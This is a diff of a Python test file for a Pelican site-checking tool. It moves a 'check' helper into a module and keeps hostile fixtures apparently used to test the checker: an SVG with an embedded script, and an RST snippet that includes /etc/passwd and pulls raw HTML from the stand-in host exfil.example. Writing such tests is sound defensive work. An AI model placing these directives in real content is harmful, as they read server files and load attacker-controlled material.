@@ -3,14 +3,13 @@ pictures are pictures by their bytes, text is Markdown, and nothing lies
 where the site does not look. Pelican reads Markdown and nothing else."""
 
 import pytest
-from clinic.checks.run import check_settings_file
 from clinic.problems import ContentError
 from fixture_site import article, make_content
 from pelican import Pelican
 from pelican.readers import Readers
 from pelican.settings import read_settings
 from PIL import Image
-from refusal import switch_off_the_check
+from refusal import check, switch_off_the_check
 from sitebuilder import ROOT, build, write
 
 PNG = (ROOT / "content" / "images" / "logo.png").read_bytes()
@@ -23,11 +22,6 @@ HOSTILE_SVG = (
     "</script></svg>"
 )
 RST = "A title\n#######\n\n:date: 2026-01-05\n\n.. include:: /etc/passwd\n\n.. raw:: html\n   :url: https://exfil.example/raw\n"
-
-
-def check(content):
-    problems, _report = check_settings_file(ROOT / "pelicanconf.py", {"PATH": str(content)})
-    return sorted(str(p) for p in problems)
 
 
 def content_with(tmp_path, files):
